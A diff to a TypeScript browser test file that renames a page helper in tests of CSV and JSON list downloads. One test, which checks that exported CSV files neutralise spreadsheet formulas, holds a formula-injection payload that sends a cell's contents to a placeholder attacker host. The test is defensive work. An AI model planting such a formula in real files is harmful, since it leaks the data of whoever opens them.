@@ -21,7 +21,7 @@ describe.each(plans)('of $id', ({ id, term, actions }) => {
     .filter((action) => years.some((year) => has('timescale', year)(action)));
 
   test('the CSV of a filtered list holds just its actions, in its order', async () => {
-    await browser.open(chosen, async (page) => {
+    await browser.withPage(chosen, async (page) => {
       const ids = await listedOn(page);
       const { name, text } = await download(page, 'CSV');
       const rows: Record<string, string>[] = parse(text, { bom: true, columns: true });
@@ -44,7 +44,7 @@ describe.each(plans)('of $id', ({ id, term, actions }) => {
   });
 
   test('the JSON of a filtered list holds the same actions', async () => {
-    await browser.open(chosen, async (page) => {
+    await browser.withPage(chosen, async (page) => {
       const { name, text } = await download(page, 'JSON');
       const records = JSON.parse(text) as { id: string }[];
       expect(name).toBe(`${file}-chosen.json`);
@@ -53,7 +53,7 @@ describe.each(plans)('of $id', ({ id, term, actions }) => {
   });
 
   test(`the whole list is the file of all ${term}`, async () => {
-    await browser.open(list, async (page) => {
+    await browser.withPage(list, async (page) => {
       const { name, text } = await download(page, 'CSV');
       const rows: Record<string, string>[] = parse(text, { bom: true, columns: true });
       expect(name).toBe(`${file}.csv`);
@@ -64,7 +64,7 @@ describe.each(plans)('of $id', ({ id, term, actions }) => {
 
 test('what a spreadsheet could run is harmless in the file', async () => {
   const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
-  await browser.open('/', async (page) => {
+  await browser.withPage('/', async (page) => {
     await page.route('**/data/actions.csv', async (route) => {
       const response = await route.fetch();
       const [header = [], ...rows] = parse(await response.text(), { bom: true }).map((row) => row.map(unguard));
@@ -80,7 +80,7 @@ test('what a spreadsheet could run is harmless in the file', async () => {
 });
 
 test('a reader whose connection is gone is told so', async () => {
-  await browser.open('/leeds/actions/?owner=courts', async (page) => {
+  await browser.withPage('/leeds/actions/?owner=courts', async (page) => {
     await page.route('**/data/actions.csv', (route) => route.abort());
     await page.getByRole('link', { name: 'Download this list (CSV)' }).click();
     await expect.poll(() => page.getByRole('alert').innerText()).toContain('The file could not be made.');
